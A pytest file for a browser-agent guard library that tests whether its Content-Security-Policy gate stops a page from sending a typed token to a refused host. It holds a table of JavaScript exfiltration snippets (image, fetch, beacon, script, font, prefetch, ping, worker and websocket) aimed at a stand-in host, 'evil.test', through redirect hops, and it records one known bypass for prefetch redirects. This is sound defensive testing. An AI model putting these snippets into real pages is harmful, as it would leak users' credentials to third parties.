"""The gate's Content-Security-Policy (policies with an allow-list, no proxy): what Playwright's
routes do not see is refused by Chromium itself. A subresource to an allowed URL that redirects
to a refused host (image, fetch, beacon, script, stylesheet, CSS ``url()``, font, prefetch,
``<a ping>``, EventSource, a worker's fetch; 301/302/303/307/308, chains), a websocket from a
worker or from a ``WebSocket`` constructor the page saved before the guard was attached: none
reaches the refused host (the local server's request log says so), in documents loaded after
the wrap and before it. The benign twins (the same hop to a host the policies allow) arrive, and
what a page does on allowed hosts (inline scripts, ``eval``, ``data:`` and ``blob:`` URLs, its
own policy) keeps working. Real Chromium over 127.0.0.1.
"""

from __future__ import annotations

import itertools
from typing import Any

import pytest
from playwright.async_api import Page

from pagewarden import ActionBlocked, Guard, PolicySet
from pagewarden.interceptors._csp import csp_policies, deny_url_patterns
from pagewarden.rules._egress import EgressRules
from pagewarden.testing import LocalSite, RecordedRequest, Response

from .test_gate_hops import POLICIES, _reached, _until

_COUNTER = itertools.count()
SECRET = "PWSECRET-csp-hop-5150"

#: one way a page's script sends data through `H(url)` (an allowed URL redirecting to `url`)
ROUTES: dict[str, str] = {
    "image": "new Image().src = H('http://{D}/i.png?c={M}&d=' + v);",
    "fetch": "fetch(H('http://{D}/x?c={M}&d=' + v)).catch(() => {});",
    "fetch_post_307": "fetch(H('http://{D}/x?c={M}', 307), {method: 'POST', body: v, mode: 'no-cors'})"
    ".catch(() => {});",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', H('http://{D}/x?c={M}&d=' + v)); x.send();",
    "beacon": "navigator.sendBeacon(H('http://{D}/b?c={M}', 307), v);",
    "script": "const s = document.createElement('script'); s.src = H('http://{D}/j.js?c={M}&d=' + v, 301);"
    " document.head.append(s);",
    "stylesheet": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    " l.href = H('http://{D}/s.css?c={M}&d=' + v, 308); document.head.append(l);",
    "css_url": "const e = document.createElement('div'); e.style.cssText ="
    " 'width:10px;height:10px;background-image:url(' + H('http://{D}/bg.png?c={M}&d=' + v) + ')';"
    " document.body.append(e);",
    "font": "const s = document.createElement('style'); s.textContent = '@font-face {font-family: xf;"
    " src: url(' + H('http://{D}/f.woff?c={M}&d=' + v) + ')} #ft {font-family: xf}';"
    " document.head.append(s); const e = document.createElement('p'); e.id = 'ft';"
    " e.textContent = 'text'; document.body.append(e);",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch';"
    " l.href = H('http://{D}/p?c={M}&d=' + v, 303); document.head.append(l);",
    "ping": "const a = document.createElement('a'); a.href = '#done';"
    " a.ping = H('http://{D}/ping?c={M}', 307); document.body.append(a); a.click();",
    "eventsource": "const es = new EventSource(H('http://{D}/es?c={M}&d=' + v));"
    " setTimeout(() => es.close(), 500);",
    "chain": "new Image().src = H(H('http://{D}/i.png?c={M}&d=' + v), 301);",
    "worker_fetch": "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify("
    "H('http://{D}/w?c={M}&d=' + v)) + ').catch(() => {})'], {type: 'text/javascript'})));",
    "video_poster": "const p = document.createElement('video');"
    " p.poster = H('http://{D}/v.png?c={M}&d=' + v); document.body.append(p);",
}
PAGE = """<!doctype html><html><head><meta charset="utf-8"></head><body>
<label>Token <input id="secret" name="token"></label>
<script>
const H = (to, s) => 'http://app.test/hop?s=' + (s || 302) + '&to=' + encodeURIComponent(to);
document.getElementById("secret").addEventListener("input", (ev) => {
  if (ev.target.value.length < 8) return;
  const v = encodeURIComponent(ev.target.value);
  {R}
});
</script></body></html>"""


def _hop(request: RecordedRequest) -> Response:
    status = int(request.query.get("s", ["302"])[0])
    return Response("", status=status, headers={"Location": request.query["to"][0]})


@pytest.fixture
def hops(site: LocalSite) -> LocalSite:
    for host in ("app.test", "other.test"):
        site.route(host, "/hop", _hop)
    return site


def _serve(site: LocalSite, body: str) -> str:
    path = f"/csp/{next(_COUNTER)}.html"
    site.route("app.test", path, lambda _r: Response(body))
    return f"http://app.test{path}"


def _gate_events(events: list[Any]) -> list[dict[str, Any]]:
    return [e.data for e in events if e.kind == "network" and e.data.get("layer") == "gate"]


#: Known gap (strict xfail: fails once closed): with Playwright routing the context, Chromium
#: follows a ``<link rel=prefetch>``'s redirect in the browser process, unchecked by the policy.
GAPS = {"prefetch": "a prefetch's redirect is followed in the browser process under routing"}
#: Playwright's routing of the context stops a beacon's or ping's redirect (to any host) by itself.
NO_TWIN = {"beacon", "ping"}


@pytest.mark.parametrize("wrapped", ["before_load", "after_load"])
@pytest.mark.parametrize(
    "route",
    [pytest.param(r, marks=pytest.mark.xfail(strict=True, reason=GAPS[r])) if r in GAPS else r
     for r in sorted(ROUTES)],
)
async def test_a_subresource_hop_to_a_refused_host_never_leaves(
    page: Page, hops: LocalSite, route: str, wrapped: str
) -> None:
    mark = f"csp-{route}-{wrapped}"
    before = len(hops.requests)
    url = _serve(hops, PAGE.replace("{R}", ROUTES[route].replace("{D}", "evil.test").replace("{M}", mark)))
    guard = Guard(POLICIES, goal="Log in to the app.")
    guard.add_secret(SECRET, allow_domains=["app.test"])
    events: list[Any] = []
    guard.subscribe(events.append)
    if wrapped == "after_load":
        await page.goto(url)  # the agent attaches to a page already loaded
        guarded = guard.wrap(page)
    else:
        guarded = guard.wrap(page)
        await guarded.goto(url)
    await guarded.fill("#secret", SECRET)  # a same-site field: allowed; the page's handler runs
    reported = route != "worker_fetch"  # a worker's violation is reported to the worker only
    kinds = lambda: {(e["action"], e["rule"]) for e in _gate_events(events)}  # noqa: E731
    if reported and route not in GAPS:  # the refusal's event first (a known gap has none to wait for)
        assert await _until(lambda: ("request", "domain_allow") in kinds()), "the refusal is an event"
    await page.wait_for_timeout(900)  # the window in which nothing may reach the refused host
    assert _reached(hops, "evil.test", mark) == []
    sent = [r for r in hops.requests[before:] if SECRET in str(r.query) or SECRET.encode() in r.body]
    assert [r for r in sent if r.host != "app.test"] == []
    assert all(SECRET not in str(e) for e in _gate_events(events)), "events are redacted"
    if reported:
        assert ("request", "domain_allow") in kinds(), "the refusal is an event"
    await guarded.hover("body")  # a refused subresource is an event only: the agent goes on


@pytest.mark.parametrize("route", sorted(set(ROUTES) - NO_TWIN))
async def test_the_same_hop_to_an_allowed_host_arrives(page: Page, hops: LocalSite, route: str) -> None:
    mark = f"csp-twin-{route}"
    url = _serve(hops, PAGE.replace("{R}", ROUTES[route].replace("{D}", "other.test").replace("{M}", mark)))
    guard = Guard(POLICIES, goal="Log in to the app.")
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    await guarded.goto(url)
    await guarded.fill("#secret", "hello-world-123")
    assert await _until(lambda: bool(_reached(hops, "other.test", mark)))
    assert _gate_events(events) == []


WS_PAGE = """<!doctype html><html><head></head><body><input id="q"><script>
const Original = WebSocket;  // captured before the guard was attached
window.wsEvents = [];
document.getElementById("q").addEventListener("input", () => {
  {R}
}, {once: true});
</script></body></html>"""
WS_ROUTES = {
    "worker": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://{D}/ws?c={M}')\"],"
    " {type: 'text/javascript'})));",
    "captured_before_the_wrap": "const ws = new Original('ws://{D}/ws?c={M}');"
    " ws.onopen = () => wsEvents.push('open'); ws.onerror = () => wsEvents.push('error');",
    "iframe_constructor": "const f = document.createElement('iframe'); document.body.append(f);"
    " new f.contentWindow.WebSocket('ws://{D}/ws?c={M}');",
}


def _serve_ws(site: LocalSite, how: str, dest: str, mark: str) -> str:
    return _serve(site, WS_PAGE.replace("{R}", WS_ROUTES[how].replace("{D}", dest).replace("{M}", mark)))


@pytest.mark.parametrize("how", sorted(WS_ROUTES))
async def test_a_websocket_outside_playwrights_mock_never_connects(
    page: Page, site: LocalSite, how: str
) -> None:
    """A websocket a worker opens, or one opened with a constructor the page captured before the
    guard was attached (Playwright's `route_web_socket` mocks only the page's `WebSocket`), is
    refused by the gate's policy: nothing reaches the host; the page's own constructor is
    reported to the agent like any refused websocket."""
    mark = f"csp-ws-{how}"
    url = _serve_ws(site, how, "evil.test", mark)
    await page.goto(url)  # loaded before the wrap
    guard = Guard(POLICIES, goal="Use the app.")
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    await guarded.fill("#q", "x")
    await page.wait_for_timeout(800)
    assert _reached(site, "evil.test", mark) == []
    if how == "captured_before_the_wrap":  # the others are refused in a worker or a child document
        assert [e["action"] for e in _gate_events(events)] == ["websocket"]
        with pytest.raises(ActionBlocked) as caught:
            await guarded.hover("body")
        assert caught.value.verdict.findings[0].evidence["action"] == "websocket"
        assert "open" not in await page.evaluate("wsEvents")


@pytest.mark.parametrize("how", sorted(WS_ROUTES))
async def test_the_same_websocket_to_an_allowed_host_connects(page: Page, site: LocalSite, how: str) -> None:
    mark = f"csp-ws-twin-{how}"
    url = _serve_ws(site, how, "other.test", mark)
    await page.goto(url)
    guarded = Guard(POLICIES, goal="Use the app.").wrap(page)
    await guarded.fill("#q", "x")
    assert await _until(lambda: bool(_reached(site, "other.test", mark)))
    assert _reached(site, "other.test", mark)[0].headers.get("Upgrade", "").lower() == "websocket"


WORKS = """<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="img-src http://app.test http://other.test data: blob:">
</head><body><div id="out"></div><script>
const out = [];
out.push("inline");
out.push(eval("'eval'"));
out.push(new Function("return 'function'")());
setTimeout("window.timerString = true", 0);
const img = new Image(); img.onload = () => out.push("data-image");
img.src = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=";
const w = new Worker(URL.createObjectURL(new Blob(["postMessage('blob-worker')"])));
w.onmessage = (e) => out.push(e.data);
fetch("http://app.test/plain.html?c=csp-works").then(() => out.push("fetch"));
const s = document.createElement("style"); s.textContent = "#out { color: rgb(1, 2, 3) }";
document.head.append(s);
window.out = out;
</script><p onclick="out.push('handler')" id="p">p</p></body></html>"""


async def test_pages_on_allowed_hosts_keep_working(page: Page, site: LocalSite) -> None:
    """The policy allows what the rules allow: inline scripts and handlers, `eval`, string
    timers, `data:` images, `blob:` workers, inline styles, fetches to allowed hosts, and the
    page's own (stricter) policy still applies alongside."""
    guarded = Guard(POLICIES, goal="Use the app.").wrap(page)
    await guarded.goto(_serve(site, WORKS))
    await guarded.click("#p")
    await page.wait_for_function("window.out.length >= 7 && window.timerString")
    got = await page.evaluate("window.out")
    assert set(got) >= {"inline", "eval", "function", "data-image", "blob-worker", "fetch", "handler"}
    assert await page.evaluate("getComputedStyle(document.getElementById('out')).color") == "rgb(1, 2, 3)"
    metas = await page.evaluate(
        "[...document.querySelectorAll('meta[http-equiv]')].map(m => m.content.slice(0, 11))"
    )
    assert metas.count("default-src") == 1


def _rules(*allow: list[str], deny: list[str] | None = None) -> EgressRules:
    rules: list[dict[str, Any]] = [{"domain_allow": a} for a in allow]
    if deny:
        rules.append({"domain_deny": deny})
    return EgressRules.from_policies(
        PolicySet.from_dict(
            {
                "version": 1,
                "policies": [
                    {"id": "T-c", "category": "boundary", "risk_level": "high", "description": "d",
                     "rules": rules}
                ],
            }
        )
    )


def test_the_policy_names_exactly_the_allowed_hosts() -> None:
    (policy,) = csp_policies(_rules(["app.test", "*.shop.test", ".docs.test"]).domain_allow)
    default = policy.split(";")[0].split()
    for host in ("app.test", "*.shop.test", "docs.test", "*.docs.test"):
        for scheme in ("http", "https", "ws", "wss"):
            assert f"{scheme}://{host}:*" in default
    assert "shop.test" not in " ".join(default).replace("*.shop.test", "")  # *.x is not x itself
    assert "'self'" not in policy and "form-action" not in policy
    assert "frame-src *" in policy


@pytest.mark.parametrize(
    "allow",
    [["*"], ["app.test", "*"], ["[::1]"], ["under_score.test"]],
    ids=["star", "star-in-list", "ipv6", "bad-host-char"],
)
def test_a_rule_csp_cannot_spell_gives_no_policy(allow: list[str]) -> None:
    assert csp_policies(_rules(allow).domain_allow) == []


def test_one_policy_per_distinct_rule_most_restrictive_first() -> None:
    rules = _rules(["a.test", "b.test"], ["a.test"], ["a.test", "b.test"], deny=["evil.test"])
    policies = csp_policies(rules.domain_allow)
    assert len(policies) == 2
    assert "b.test" not in policies[0] and "b.test" in policies[1]
    assert csp_policies(_rules(deny=["evil.test"]).domain_allow) == []


def test_the_policy_names_a_rules_subresource_hosts_too() -> None:
    embeds = {"patterns": ["app.test"], "subresources": [".cdn.test", "video.test"]}
    (policy,) = csp_policies(_rules(embeds).domain_allow)  # type: ignore[arg-type]
    default, worker = policy.split(";")[0].split(), policy.split(";")[1].split()
    for host in ("app.test", "cdn.test", "*.cdn.test", "video.test"):
        assert f"https://{host}:*" in default and f"wss://{host}:*" in default
        assert f"https://{host}:*" in worker
    assert "frame-src *" in policy  # frames are the gate's to judge (a tab's document there is refused)
    # a subresource host CSP cannot spell (or `*`: any host) gives no policy for that rule
    assert csp_policies(_rules({"patterns": ["app.test"], "subresources": ["*"]}).domain_allow) == []  # type: ignore[arg-type]
    # a denied host under a subresource pattern is not refused by the policy: the hop gate pauses it
    rules = _rules({"patterns": ["app.test"], "subresources": [".cdn.test"]}, deny=["bad.cdn.test"])  # type: ignore[arg-type]
    assert deny_url_patterns(rules, covered=True)
    assert deny_url_patterns(_rules(["app.test"], deny=["bad.cdn.test"]), covered=True) == []


WORKER_SCRIPT = (
    "const o = {mode: 'no-cors'};"
    " fetch('http://app.test/hop?to=' + encodeURIComponent('http://{D}/w?c={M}-hop'), o).catch(() => {});"
    " fetch('http://{D}/w?c={M}-direct', o).catch(() => {});"
    " try { new WebSocket('ws://{D}/ws?c={M}-ws'); } catch (e) {}"
)
WORKER_PAGE = """<!doctype html><html><head></head><body><input id="q"><script>
document.getElementById("q").addEventListener("input", () => {
  {R}
}, {once: true});
</script></body></html>"""
WORKERS = {
    "dedicated": "new Worker('/csp-worker/{M}.js');",
    "shared": "new SharedWorker('/csp-worker/{M}.js');",
    "service": "navigator.serviceWorker.register('/csp-worker/{M}.js');",
}
ALLOW_LOCAL = PolicySet.from_dict(
    {
        "version": 1,
        "policies": [
            {
                "id": "T-w",
                "category": "boundary",
                "risk_level": "high",
                "description": "Where the agent may go.",
                "rules": [{"domain_allow": ["127.0.0.1", "app.test", "other.test"]}],
            }
        ],
    }
)


def _serve_worker(site: LocalSite, kind: str, dest: str, mark: str) -> str:
    """A page on 127.0.0.1 (a secure context: service workers may register) starting a `kind`
    worker from a script URL whose fetches (direct and through an allowed hop) and websocket
    go to `dest`."""
    script = WORKER_SCRIPT.replace("{D}", dest).replace("{M}", mark)
    if kind == "service":
        script = f"self.addEventListener('install', () => {{ {script} }});"
    js = Response(script, content_type="text/javascript")
    site.route("127.0.0.1", f"/csp-worker/{mark}.js", lambda _r: js)
    path = f"/csp-worker/{mark}.html"
    body = WORKER_PAGE.replace("{R}", WORKERS[kind].replace("{M}", mark))
    site.route("127.0.0.1", path, lambda _r: Response(body))
    return f"http://127.0.0.1:{site.port}{path}"


def _marked(site: LocalSite, host: str, mark: str) -> list[RecordedRequest]:
    return [r for r in site.requests_to(host) if str(r.query.get("c", [""])[0]).startswith(mark)]


@pytest.mark.parametrize("kind", sorted(WORKERS))
async def test_a_worker_from_a_url_gets_the_policy_under_wrap(page: Page, hops: LocalSite, kind: str) -> None:
    """A dedicated, shared or service worker loaded from a URL has the policy of its script's
    response, not of the page: the gate's DevTools session gives worker scripts the policy, so
    even on a page given to `Guard.wrap` (whose browser keeps shared and service workers) the
    worker's fetch, redirect hop and websocket to a refused host go nowhere, and the refusal is
    an event of the gate (the worker's policy reports to the session, which answers itself)."""
    hops.route("127.0.0.1", "/hop", _hop)
    mark = f"csp-worker-{kind}"
    guard = Guard(ALLOW_LOCAL, goal="Use the app.")
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    await guarded.goto(_serve_worker(hops, kind, "evil.test", mark))
    await guarded.fill("#q", "x")
    await page.wait_for_timeout(1500)
    assert _marked(hops, "evil.test", mark) == []
    if kind != "service":  # a service worker sends no report-uri report
        assert await _until(lambda: any(e["host"] == "evil.test" for e in _gate_events(events)))


@pytest.mark.parametrize("kind", sorted(WORKERS))
async def test_the_same_worker_reaching_an_allowed_host_works(page: Page, hops: LocalSite, kind: str) -> None:
    hops.route("127.0.0.1", "/hop", _hop)
    mark = f"csp-worker-twin-{kind}"
    guarded = Guard(ALLOW_LOCAL, goal="Use the app.").wrap(page)
    await guarded.goto(_serve_worker(hops, kind, "other.test", mark))
    await guarded.fill("#q", "x")
    assert await _until(lambda: {r.query["c"][0] for r in _marked(hops, "other.test", mark)} >= {
        f"{mark}-hop", f"{mark}-direct", f"{mark}-ws"})  # fmt: skip


DENY_ONLY = PolicySet.from_dict(
    {
        "version": 1,
        "policies": [
            {
                "id": "T-d",
                "category": "boundary",
                "risk_level": "high",
                "description": "Never talk to evil.test.",
                "rules": [{"domain_deny": ["evil.test"]}],
            }
        ],
    }
)


@pytest.mark.parametrize("route", ["image", "fetch", "script", "css_url", "chain", "prefetch", "font"])
async def test_deny_only_policies_refuse_a_hop_to_a_denied_host(
    page: Page, hops: LocalSite, route: str
) -> None:
    """A deny-list is no policy CSP can state: the gate's DevTools session pauses requests of any
    kind to the denied hosts (each redirect hop is a new request to it) and refuses them."""
    mark = f"csp-deny-{route}"
    url = _serve(hops, PAGE.replace("{R}", ROUTES[route].replace("{D}", "evil.test").replace("{M}", mark)))
    guard = Guard(DENY_ONLY, goal="Log in to the app.")
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    await guarded.goto(url)
    await guarded.fill("#secret", "hello-world-123")
    assert await _until(
        lambda: any(e["host"] == "evil.test" and e["rule"] == "domain_deny" for e in _gate_events(events))
    )
    await page.wait_for_timeout(900)  # the window in which nothing may reach the denied host
    assert _reached(hops, "evil.test", mark) == []
    await guarded.hover("body")


@pytest.mark.parametrize("route", ["image", "fetch", "script", "chain"])
async def test_deny_only_policies_let_a_hop_elsewhere_arrive(page: Page, hops: LocalSite, route: str) -> None:
    mark = f"csp-deny-twin-{route}"
    url = _serve(hops, PAGE.replace("{R}", ROUTES[route].replace("{D}", "other.test").replace("{M}", mark)))
    guarded = Guard(DENY_ONLY, goal="Log in to the app.").wrap(page)
    await guarded.goto(url)
    await guarded.fill("#secret", "hello-world-123")
    assert await _until(lambda: bool(_reached(hops, "other.test", mark)))


@pytest.mark.parametrize("kind", ["shared", "service"])
async def test_deny_only_policies_refuse_a_workers_requests_under_wrap(
    page: Page, hops: LocalSite, kind: str
) -> None:
    """Shared and service workers' requests, which Playwright's routes do not see, to a denied
    host (directly or through a hop) are refused by the gate's DevTools session. (Their
    websockets are not: DevTools' request interception does not see websockets.)"""
    hops.route("127.0.0.1", "/hop", _hop)
    mark = f"csp-deny-worker-{kind}"
    guarded = Guard(DENY_ONLY, goal="Use the app.").wrap(page)
    await guarded.goto(_serve_worker(hops, kind, "evil.test", mark))
    await guarded.fill("#q", "x")
    await page.wait_for_timeout(1500)
    got = {r.query["c"][0] for r in _marked(hops, "evil.test", mark)}
    assert f"{mark}-hop" not in got and f"{mark}-direct" not in got
